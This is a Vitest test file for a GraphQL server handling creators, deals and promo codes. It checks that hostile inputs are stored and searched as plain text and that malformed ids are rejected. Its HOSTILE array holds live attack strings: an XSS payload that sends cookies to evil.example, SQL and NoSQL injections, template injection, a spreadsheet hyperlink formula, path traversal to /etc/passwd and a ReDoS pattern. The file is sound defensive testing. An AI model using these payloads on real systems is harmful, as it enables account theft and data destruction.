import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectSuffixesOfAllNames } from './persistence/owner-suffixes.js';
import { TestServer } from './support/server.js';
import { make, makeWorld, mutate, type World } from './support/world.js';

const HOSTILE = [
  `<script>fetch('//evil.example/'+document.cookie)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'; DROP TABLE promo_code; --`,
  `' OR '1'='1`,
  `") UNION SELECT password FROM credential --`,
  `\\'; SELECT SLEEP(5); #`,
  '%_%',
  '${7*7}{{7*7}}<%= 7*7 %>',
  `=HYPERLINK("http://evil.example","x")`,
  `__proto__`,
  `{"$ne":null}`,
  '../../../../etc/passwd',
  '(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
] as const;

let server: TestServer;
let world: World;
beforeAll(async () => {
  server = await TestServer.start();
  world = await makeWorld(server.client, 'PERFORMANCE_AND_CREATOR');
});
afterAll(() => server.stop());

describe('hostile text', () => {
  it.each(HOSTILE)('%s is kept as it is, and is nothing but text', async (text) => {
    const { account, creatorProgram } = world;
    const made = await Promise.all([
      make(server.client, 'createCreator', { displayName: text, notes: text }, account),
      make(server.client, 'createPerformancePartner', { name: text }, account),
      make(server.client, 'createProgram', { name: text, kind: 'PERFORMANCE' }, account),
      make(
        server.client,
        'createDeal',
        { programId: creatorProgram, name: text, type: 'BOGO', description: text },
        account,
      ),
    ]);
    const { nodes } = await server.client.query<{ nodes: object[] }>(
      `query ($ids: [ID!]!) { nodes(ids: $ids) {
        ... on Creator { displayName notes } ... on PerformancePartner { name }
        ... on Program { name } ... on Deal { name description } } }`,
      { ids: made },
      { account },
    );
    expect(nodes).toEqual([
      { displayName: text, notes: text },
      { name: text },
      { name: text },
      { name: text, description: text },
    ]);
  });

  it('leaves everybody findable by exactly the endings of their names’ words', async () => {
    const rows = await expectSuffixesOfAllNames(server.database);
    expect(rows).toBeGreaterThan(HOSTILE.length * 2);
  });

  const SEARCHES = `query ($text: String!) {
    creators(first: 100, filter: { search: $text }) { nodes { name: displayName } count { value } }
    performancePartners(first: 100, filter: { search: $text }) { nodes { name } }
    deals(first: 100, filter: { search: $text }) { nodes { name } }
    mediaSources(first: 100, filter: { search: $text }) { nodes { name } }
    promoCodes(first: 100, filter: { search: $text }) { nodes { name: text } }
    auditEvents(first: 100, filter: { action: $text }) { nodes { name: action } }
  }`;
  type Found = Record<string, { nodes: { name: string }[] }>;

  it.each([
    ['as long as may be', 'ß'.repeat(64_000)],
    ['of very many words', 'tanaka '.repeat(9_000)],
    ['of letters that are 18 of the form', 'ﷺ'.repeat(20_000)],
    ['half of a pair', 'Mei\ud83d'],
    ['the other half', '\ude00'],
    ['what stands for a half elsewhere', '\ufffd'],
    ['a null character', 'Mei\u0000'],
    ['any letters, as patterns say', 'M%i'],
    ['any letter, as patterns say', 'M_i'],
    ['a pattern’s escape', 'Mei\\'],
  ])('a search %s finds nothing', async (_, text) => {
    const { errors, data } = await server.client.send<Found>(
      SEARCHES,
      { text },
      { account: world.account },
    );
    expect(errors).toEqual([]);
    expect(Object.values(data ?? {}).flatMap(({ nodes }) => nodes)).toEqual([]);
  });

  it('what nobody sees in a search does not matter', async () => {
    for (const text of [
      'M\u200Bei T\u00ADanaka',
      '\u2066mei\u2069',
      'TANAKA\u0301\u0302',
      'ＭＥＩ',
    ]) {
      const { data } = await server.client.send<Found>(
        SEARCHES,
        { text },
        { account: world.account },
      );
      expect(data?.['creators']?.nodes).toEqual([{ name: 'Mei Tanaka' }]);
    }
  });

  it.each(HOSTILE)('%s in a search finds its words and nothing else', async (text) => {
    const before = await server.rowCounts();
    const answer = await server.client.send<Found>(SEARCHES, { text }, { account: world.account });
    expect(answer.errors).toEqual([]);
    for (const { nodes } of Object.values(answer.data ?? {})) {
      for (const { name } of nodes) expect(name).toBe(text);
    }
    expect(await server.rowCounts()).toEqual(before);
  });

  it.each(HOSTILE)('%s as a cursor, an id or a code is refused shortly', async (text) => {
    const { account, creator } = world;
    const lists = ['programs', 'creators', 'deals', 'promoCodes', 'auditEvents'];
    for (const list of lists) {
      for (const args of ['first: 1, after: $text', 'last: 1, before: $text']) {
        const { errors } = await server.client.send(
          `query ($text: String!) { ${list}(${args}) { nodes { id } } }`,
          { text },
          { account },
        );
        expect(errors.map(({ extensions }) => extensions.code)).toEqual(['BAD_USER_INPUT']);
        expect(JSON.stringify(errors).length).toBeLessThan(2_000);
      }
    }
    const answers = await server.client.query<Record<string, unknown>>(
      `query ($id: ID!, $text: String!) { node(id: $id) { id } nodes(ids: [$id]) { id }
        promoCodeByText(text: $text) { id } promoCodes(first: 1, filter: { ownerId: $id }) { nodes { id } } }`,
      { id: text, text },
      { account },
    );
    expect(answers).toEqual({
      node: null,
      nodes: [null],
      promoCodeByText: null,
      promoCodes: { nodes: [] },
    });
    const terms = { creditPolicy: 'ALWAYS', timeZone: text };
    const { errors } = await mutate(
      server.client,
      'issuePromoCode',
      { creatorId: creator, text: `A ${text}`, terms },
      account,
    );
    expect(errors.map(({ code }) => code)).toContain('UNKNOWN_TIME_ZONE');
  });
});
